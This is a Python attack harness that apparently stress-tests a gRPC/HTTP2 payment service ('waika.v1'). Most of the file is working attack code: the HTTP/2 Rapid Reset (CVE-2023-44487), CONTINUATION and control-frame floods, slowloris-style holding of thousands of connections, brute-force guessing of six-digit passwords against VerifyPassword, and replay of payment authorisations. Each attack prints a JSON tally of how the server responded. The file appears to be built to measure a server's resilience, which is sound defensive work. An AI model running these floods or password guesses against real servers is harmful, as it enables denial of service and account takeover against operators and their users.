"""What is done to a server, each as a process of its own: `python3 attacks.py NAME HOST:PORT SECONDS`.

Each prints one line of JSON: how many connections it made, what it sent, how many were told to go away (GOAWAY, and with
which codes), how many were closed, how long the longest was kept, and what answers said of guessed passwords. It ends by
itself.
"""
import collections
import itertools
import json
import os
import resource
import selectors
import socket
import sys
import threading
import time

import frames
from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
                    WINDOW_UPDATE, begin, frame, head, message)

AUTHORISE = b"/waika.v1.AuthorisationService/Authorise"
GET_ACCOUNT = b"/waika.v1.CardService/GetAccount"
VERIFY_PASSWORD = b"/waika.v1.CardService/VerifyPassword"
# Enough for a server that would take any number.
CONNECTIONS = 4
# What is sent before it is looked whether the server has said anything.
PIECE = 64 * 1024


class Tally:
    def __init__(self):
        self.lock = threading.Lock()
        self.connections = self.sent_bytes = self.closed = self.refused = 0
        self.goaway, self.guesses = {}, {}
        self.longest = 0.0

    def add(self, **told):
        with self.lock:
            for name, value in told.items():
                if name in ("goaway", "guesses"):
                    counts = getattr(self, name)
                    counts[value] = counts.get(value, 0) + 1
                elif name == "longest":
                    self.longest = max(self.longest, value)
                else:
                    setattr(self, name, getattr(self, name) + value)

    def line(self):
        told = {name: value for name, value in vars(self).items() if name != "lock"}
        return json.dumps({**told, "longest": round(self.longest, 2)})


def streams(make, length=PIECE):
    """Endless pieces of what is made for each stream's number, each at least so long."""
    def pieces():
        number = 1
        while number < 2**31 - 1:
            piece = bytearray()
            while len(piece) < length and number < 2**31 - 1:
                piece += make(number)
                number += 2
            yield bytes(piece)
    return pieces


def repeated(once, each):
    """One beginning, then the same for ever."""
    def pieces():
        if once:
            yield once
        piece = each * max(1, PIECE // len(each))
        while True:
            yield piece
    return pieces


def call(number, path=AUTHORISE, body=b""):
    return (frame(HEADERS, END_HEADERS, number, head(path)) + frame(DATA, END_STREAM, number, message(body)))


def text(tag, value):
    return bytes([tag << 3 | 2, len(value)]) + value


ACCOUNT = text(1, b"nobody")
# Of the load generator's first part, which nobody pays with any more: to be guessed at, and to be paid from again and again.
GUESSED, REPLAYED = b"acct-1-7", b"acct-1-3"
FROM_BALANCE, CENT, CNY, TRANSFER, IN_APP = 2, 100, b"CNY", 3, 1
KEYS = itertools.count()


def guess():
    """VerifyPassword under a new key, each time with another password."""
    count = next(KEYS)
    body = text(1, b"guess-%d-%d" % (os.getpid(), count)) + text(2, GUESSED) + text(3, b"%06d" % (count % 1_000_000))
    return body + bytes([4 << 3, CENT, 5 << 3, FROM_BALANCE])


def replay():
    """One Authorise, whose answer is stored since the first of them."""
    body = text(1, b"replay-%d" % os.getpid()) + text(2, REPLAYED) + bytes([5 << 3, CENT]) + text(6, CNY)
    return body + bytes([7 << 3, TRANSFER, 8 << 3, IN_APP]) + text(9, b"000000") + bytes([14 << 3, FROM_BALANCE])


FLOODS = {
    # CVE-2023-44487: begun and reset at once.
    "rapid-reset": streams(lambda number: frame(HEADERS, END_HEADERS, number, head(AUTHORISE))
                           + frame(RST_STREAM, 0, number, b"\0\0\0\x08")),
    # RUSTSEC-2024-0003: mistakes that the server has to reset.
    "local-error-reset": streams(lambda number: frame(HEADERS, END_HEADERS, number, head(
        AUTHORISE, [(b"content-length", b"5")])) + frame(DATA, END_STREAM, number, b"more than five")),
    # RUSTSEC-2024-0332: a head that never ends.
    "continuation": repeated(frame(HEADERS, 0, 1, head(AUTHORISE)),
                             frame(CONTINUATION, 0, 1, frames.literal(b"x-flood", b"y" * 200))),
    # Nothing, again and again.
    "empty-data": repeated(frame(HEADERS, END_HEADERS, 1, head(AUTHORISE)), frame(DATA, 0, 1)),
    "ping": repeated(b"", frame(PING, 0, 0, b"12345678")),
    "settings": repeated(b"", frame(SETTINGS, 0, 0)),
    "window-update": repeated(frame(HEADERS, END_HEADERS, 1, head(AUTHORISE)),
                              frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")),
    # Calls by the book, as many as can be sent.
    "calls": streams(lambda number: call(number, GET_ACCOUNT, ACCOUNT), 1),
    "guess": streams(lambda number: call(number, VERIFY_PASSWORD, guess()), 1),
    "replay": streams(lambda number: call(number, AUTHORISE, replay()), 1),
    # Messages of nearly 16 KiB a frame, without end.
    "oversized": repeated(frame(HEADERS, END_HEADERS, 1, head(AUTHORISE)) + frame(DATA, 0, 1, b"\0\x7f\xff\xff\xff"),
                          frame(DATA, 0, 1, b"z" * 16_000)),
}

BY_THE_BOOK = ("calls", "guess", "replay")
# Calls of one connection that go on at the same time, where the attacker keeps to the book: more would be reset.
MOST_OPEN = 200


def flood(address, attack, until, tally):
    """Sends on one connection after the other, and reads what is told, so that nothing is held back for that."""
    pieces, most_open = FLOODS[attack], MOST_OPEN if attack in BY_THE_BOOK else None
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            sock = socket.create_connection(address, timeout=2)
        except OSError:
            tally.add(refused=1)
            time.sleep(0.05)
            continue
        tally.add(connections=1)
        told = bytearray()
        sock.setblocking(False)
        waiting = selectors.DefaultSelector()
        waiting.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        source, is_open = pieces(), 0
        outbox = begin() + frame(SETTINGS, ACK, 0) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\0\0")
        try:
            while time.monotonic() < until:
                for _, events in waiting.select(0.2):
                    if events & selectors.EVENT_READ:
                        told += sock.recv(65_536) or raise_closed()
                        is_open -= note_frames(told, tally)
                    if events & selectors.EVENT_WRITE:
                        if not outbox and most_open is None:
                            outbox = next(source, b"") or raise_closed()
                        while not outbox[PIECE:] and most_open is not None and is_open < most_open:
                            outbox += next(source, b"") or raise_closed()
                            is_open += 1
                        if not outbox:
                            time.sleep(0.0005)
                            continue
                        count = sock.send(outbox)
                        tally.add(sent_bytes=count)
                        outbox = outbox[count:]
        except (OSError, EOFError):
            tally.add(closed=1)
        tally.add(longest=time.monotonic() - began)
        waiting.close()
        sock.close()


def raise_closed():
    raise EOFError


# PasswordRefusalReason, by its number.
REFUSED = {2: "locked", 3: "wrong"}


def note_frames(told, tally):
    """Takes the whole frames off, and notes what they say of the connection and of passwords. Gives how many calls they
    have ended."""
    taken = ended = 0
    for kind, flags, _, payload in frames.frames_of(bytes(told)):
        taken += 9 + len(payload)
        ended += kind == RST_STREAM or kind == HEADERS and flags & END_STREAM
        if kind == GOAWAY:
            tally.add(goaway=str(int.from_bytes(payload[4:8], "big")))
        # Behind the five bytes of gRPC: field 2, a refusal of up to 16,383 bytes, whose field 1 is the reason.
        elif kind == DATA and payload[5:6] == b"\x12":
            inner = payload[8 if payload[6] >= 128 else 7:]
            if inner[:1] == b"\x08":
                tally.add(guesses=REFUSED.get(inner[1], "other"))
    del told[:taken]
    return ended


# What the 5,000 say first, and what they add each second.
SLOW = {
    "slow-silent": (b"", b""),
    "slow-preface": (b"PRI", b" "),
    "slow-tls": (b"\x16\x03\x01\x02\x00\x01", b"\0"),
    "slow-head": (begin() + frame(SETTINGS, ACK, 0) + b"\x00\x40\x00\x01\x04\x00\x00\x00\x01", b"\x83"),
}


# Connections that are opened in a second, until all are: what is closed is opened again.
OPENED_A_SECOND = 2_000


def slowly(address, kind, until, tally, count=5_000):
    """Holds so many connections open, each with a byte a second, at a moment of its own, and opens another one where one is
    closed."""
    first, each = SLOW[kind]
    held, due, began = {}, collections.deque(), time.monotonic()
    waiting = selectors.DefaultSelector()
    while time.monotonic() < until:
        opened = tally.connections
        for _ in range(min(count - len(held), int((time.monotonic() - began) * OPENED_A_SECOND) - opened)):
            sock = socket.socket()
            sock.setblocking(False)
            if sock.connect_ex(address) not in (0, 115):
                tally.add(refused=1)
                sock.close()
                break
            now = time.monotonic()
            held[sock] = now
            due.append((now + 0.1, sock, first))
            tally.add(connections=1)
            waiting.register(sock, selectors.EVENT_READ)
        while due and due[0][0] <= time.monotonic():
            at, sock, data = due.popleft()
            if sock not in held:
                continue
            try:
                tally.add(sent_bytes=sock.send(data) if data else 0)
            except OSError:
                pass
            due.append((at + 1, sock, each))
        for key, _ in waiting.select(0.005):
            sock = key.fileobj
            try:
                if sock.recv(65_536):
                    continue
            except OSError:
                pass
            tally.add(closed=1, longest=time.monotonic() - held.pop(sock))
            waiting.unregister(sock)
            sock.close()
    now = time.monotonic()
    for began in held.values():
        tally.add(longest=now - began)


def connect_only(address, until, tally):
    """Opens and closes."""
    while time.monotonic() < until:
        try:
            socket.create_connection(address, timeout=2).close()
            tally.add(connections=1)
        except OSError:
            tally.add(refused=1)


def sink(listener):
    """Reads some of what comes, and closes, as a server does that has had enough."""
    listener.settimeout(0.2)
    while True:
        try:
            sock, _ = listener.accept()
        except TimeoutError:
            if os.getppid() == 1:
                return
            continue
        try:
            sock.recv(PIECE)
        except OSError:
            pass
        sock.close()


def nobody():
    """The address of a sink, in a process of its own that ends with this one."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=128)
    if os.fork() == 0:
        os.nice(19)
        sink(listener)
        os._exit(0)
    return listener.getsockname()


def main():
    # It would be on a machine of its own: what processor time it takes here is not the server's doing.
    os.nice(19)
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    host, port = address.rsplit(":", 1)
    address, until, tally = (host, int(port)), time.monotonic() + seconds, Tally()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if name == "nobody":
        address, name = nobody(), "rapid-reset"
    if name in FLOODS:
        threads = [threading.Thread(target=flood, args=(address, name, until, tally)) for _ in range(CONNECTIONS)]
    elif name in SLOW:
        threads = [threading.Thread(target=slowly, args=(address, name, until, tally))]
    elif name == "connect":
        threads = [threading.Thread(target=connect_only, args=(address, until, tally)) for _ in range(CONNECTIONS)]
    else:
        sys.exit(f"no attack is named {name}: there are {' '.join([*FLOODS, *SLOW, 'connect'])}")
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(tally.line())


if __name__ == "__main__":
    main()
